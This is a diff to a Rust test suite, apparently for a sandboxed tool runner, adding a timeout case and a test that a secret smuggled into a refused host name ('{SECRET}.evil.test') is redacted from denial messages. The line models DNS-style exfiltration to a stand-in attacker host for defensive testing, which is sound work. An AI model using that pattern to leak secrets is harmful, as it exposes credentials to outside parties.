@@ -45,6 +45,7 @@ async fn hostile(t: &TestRegistry, action: &str, input: Value) -> (CallReport, D
 /// Expected failure code and a phrase the message must contain, per action.
 const CASES: &[(&str, &str, &str)] = &[
     ("loop", "deadline_exceeded", "1500 ms deadline"),
+    ("sleep", "deadline_exceeded", "1500 ms deadline"),
     ("alloc", "memory_limit", "over its limit of 32 MiB"),
     // Rust keeps its stack in linear memory: overflowing it is an out-of-bounds access
     // unless the wasm call stack overflows first. Either way it is named.
@@ -179,6 +180,24 @@ async fn secrets_never_leave_in_logs_output_or_errors() {
             },
         )
         .unwrap();
+
+    // A secret smuggled into a refused host name is redacted from the denial too.
+    let (r, _) = hostile(
+        &t,
+        "http",
+        json!({"url": format!("http://{SECRET}.evil.test/")}),
+    )
+    .await;
+    let everything = serde_json::to_string(&r).unwrap();
+    assert!(
+        !everything.contains(SECRET),
+        "secret leaked in a denial: {everything}"
+    );
+    assert!(
+        r.denied[0].contains("[redacted secret token]"),
+        "{:?}",
+        r.denied
+    );
 
     for input in [json!({}), json!({"as_failure": true})] {
         let (r, _) = hostile(&t, "leak-secret", input.clone()).await;
